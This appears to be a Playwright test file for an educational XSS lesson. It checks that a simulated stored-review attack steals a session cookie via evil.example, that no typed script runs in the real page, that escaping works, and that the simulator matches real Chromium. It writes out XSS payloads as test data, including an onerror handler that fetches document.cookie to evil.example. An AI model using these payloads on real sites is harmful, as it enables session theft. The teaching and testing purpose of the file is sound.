/**
 * XSS by hand: the attack done through the screen, and proof that no script a student types
 * ever runs in the real page. axe in both languages.
 */
import type { Page } from '@playwright/test';
import { chapterViolations } from './a11y';
import { atRest, expect, expectStep, openLesson, test } from './fixtures';
import { STEPS } from '../src/lessons/steps';
import { PAYLOAD } from '../src/lessons/chapters/xss/steps';
import { readMarkup } from '../src/sim/browser/page-markup';

const CHAPTER = STEPS.filter((s) => s.chapter === 'xss').map((s) => s.id);
const shop = (page: Page) => page.locator('#browser-page');
const tab = (page: Page, browser: string) =>
  page.getByRole('tab', { name: new RegExp(`${browser} · `) }).click();
const log = (page: Page) => page.getByTestId('evil-log');

async function postReview(page: Page, text: string) {
  // The page shown is the one typed into: one still on its way would arrive empty.
  await atRest(page);
  const before = await shop(page).getByTestId('review').count();
  await shop(page).getByLabel('Your review').fill(text);
  await shop(page).getByRole('button', { name: 'Post review' }).click();
  await expect(shop(page).getByTestId('review')).toHaveCount(before + 1);
}

test('a stored review steals Mina’s session through evil.example, and the thief becomes her', async ({
  page,
}) => {
  await page.emulateMedia({ reducedMotion: 'reduce' });
  await openLesson(page, 'step=xss-reviews&lang=en');
  await expectStep(page, 'xss-reviews');
  // The shop writes markup as typed: the bold review is bold.
  await expect(shop(page).getByTestId('review').first().locator('strong')).toHaveText('5/5');
  await expect(log(page)).toContainText('Nothing received yet.');
  // Firefox (the attacker) plants the payload; its own browser shows the page first.
  await postReview(page, PAYLOAD);
  await expect(log(page).getByTestId('evil-entry')).toHaveCount(1);
  await expect(log(page).getByTestId('evil-entry')).toContainText('from Firefox');
  // Mina opens the reviews in Chrome: the simulator says what the markup does, and it does it.
  await tab(page, 'Chrome');
  await shop(page).getByRole('button', { name: 'Reviews' }).click();
  const reading = shop(page).getByTestId('review-reading');
  await expect(reading).toContainText('The <img> fails to load, so its onerror runs.');
  await expect(reading).toContainText('connect.sid=s%3A');
  const fromMina = log(page).getByTestId('evil-entry').filter({ hasText: 'from Chrome' });
  await expect(fromMina).toContainText('GET /?c=connect.sid=s%3A');
  // Back in Firefox, the cookie from evil.example's log goes into the jar: Firefox is Mina.
  await tab(page, 'Firefox');
  await fromMina.getByRole('button', { name: 'Use connect.sid in Firefox' }).click();
  await shop(page).getByRole('button', { name: 'My page' }).click();
  await expect(shop(page)).toContainText('user_id: 152');
});

test('no script from a review ever runs in the real page', async ({ page }) => {
  await page.emulateMedia({ reducedMotion: 'reduce' });
  const dialogs: string[] = [];
  page.on('dialog', (d) => {
    dialogs.push(d.message());
    void d.dismiss();
  });
  const outside: string[] = [];
  page.on('request', (r) => {
    if (r.url().includes('evil.example')) outside.push(r.url());
  });
  await openLesson(page, 'step=xss-reviews&lang=en');
  await expectStep(page, 'xss-reviews');
  const title = await page.title();
  const markers = [
    `<img src=x onerror="window.__xssMarker=1;document.title='pwned';alert(1);fetch('https://evil.example/?c='+document.cookie)">`,
    `<script>window.__xssMarker=2;document.title='pwned';alert(2)</script>`,
    `<svg onload="window.__xssMarker=3;alert(3)"></svg>`,
    `<input autofocus onfocus="window.__xssMarker=4;alert(4)">`,
    `<iframe src="javascript:parent.__xssMarker=5" onload="window.__xssMarker=6"></iframe>`,
    `<a href="javascript:window.__xssMarker=7" onmouseover="window.__xssMarker=8">hover me</a>`,
  ];
  for (const marker of markers) await postReview(page, marker);
  await tab(page, 'Chrome');
  await shop(page).getByRole('button', { name: 'Reviews' }).click();
  await expect(shop(page).getByTestId('review')).toHaveCount(markers.length + 1);
  // The simulator worked out what would run (five of them), and said so.
  await expect(shop(page).getByTestId('script-run')).toHaveCount(5);
  // Hovering and clicking what a review drew runs nothing either.
  await shop(page).getByText('hover me', { exact: true }).hover();
  await shop(page).getByText('hover me', { exact: true }).click();
  await page.waitForTimeout(500);
  expect(await page.evaluate(() => (window as { __xssMarker?: number }).__xssMarker)).toBe(
    undefined,
  );
  expect(await page.title()).toBe(title);
  expect(dialogs).toEqual([]);
  expect(outside).toEqual([]);
  // Nothing a visitor typed became a real element: no image, script, svg, input or frame of
  // theirs, and no inline handler anywhere in the document.
  await expect(page.locator('img[src="x"]')).toHaveCount(0);
  await expect(page.locator('[onerror], [onload], [onfocus], [onmouseover]')).toHaveCount(0);
  await expect(page.locator('a[href^="javascript:"]')).toHaveCount(0);
  await expect(shop(page).locator('script, svg[onload], iframe, input[autofocus]')).toHaveCount(0);
  expect(
    await page.evaluate(() =>
      [...document.scripts].some((s) => (s.textContent ?? '').includes('__xssMarker')),
    ),
  ).toBe(false);
});

test('escaped, the payload reads as the characters that were typed, and nothing runs', async ({
  page,
}) => {
  await page.emulateMedia({ reducedMotion: 'reduce' });
  await openLesson(page, 'step=xss-escape&lang=en');
  await expectStep(page, 'xss-escape');
  await expect(shop(page).getByTestId('review').last()).toContainText(PAYLOAD);
  await expect(shop(page).getByTestId('script-run')).toHaveCount(0);
  await shop(page).getByText('Page source').click();
  await expect(shop(page).locator('.review-source code')).toContainText('&lt;img src=x');
});

/**
 * The recogniser against the real thing: each markup runs in a blank page of its own (never the
 * lesson's), and whether real Chromium ran it is what the simulator must have said.
 */
test('what the simulator says would run is what real Chromium runs', async ({ browser }) => {
  const mark = 'window.__ran=(window.__ran||0)+1';
  const shapes = [
    `<img src=x onerror="${mark}">`,
    `<IMG SRC="missing.png" ONERROR="${mark}">`,
    `<img src="" onerror="${mark}">`,
    `<img onerror="${mark}">`,
    `<video onerror="${mark}"></video>`,
    `<svg onload="${mark}"></svg>`,
    `<iframe onload="${mark}"></iframe>`,
    `<script>${mark}</script>`,
    `<b onmouseover="${mark}">bold</b>`,
    `<a href="#" onclick="${mark}">more</a>`,
    `<p>plain <i>text</i></p>`,
    `&lt;script&gt;${mark}&lt;/script&gt;`,
    // Character references in an attribute are decoded before the code runs.
    `<img src=x onerror="&#119;indow.__ran=1">`,
  ];
  const probe = await browser.newPage();
  for (const html of shapes) {
    // A new document and window each time, so no marker is left from the shape before.
    await probe.goto(`data:text/html,${encodeURIComponent(`<!DOCTYPE html><body>${html}</body>`)}`);
    await probe.waitForTimeout(150);
    const ran = (await probe.evaluate(() => (window as { __ran?: number }).__ran ?? 0)) > 0;
    expect(readMarkup(html).runs.length > 0, html).toBe(ran);
  }
  await probe.close();
});

for (const lang of ['en', 'ko'] as const) {
  test(`no WCAG 2.1 A/AA violation in the chapter (${lang})`, async ({ page }) => {
    expect(
      await chapterViolations(page, CHAPTER, lang, async () => {
        await expect(log(page)).toBeVisible();
      }),
    ).toEqual([]);
  });
}
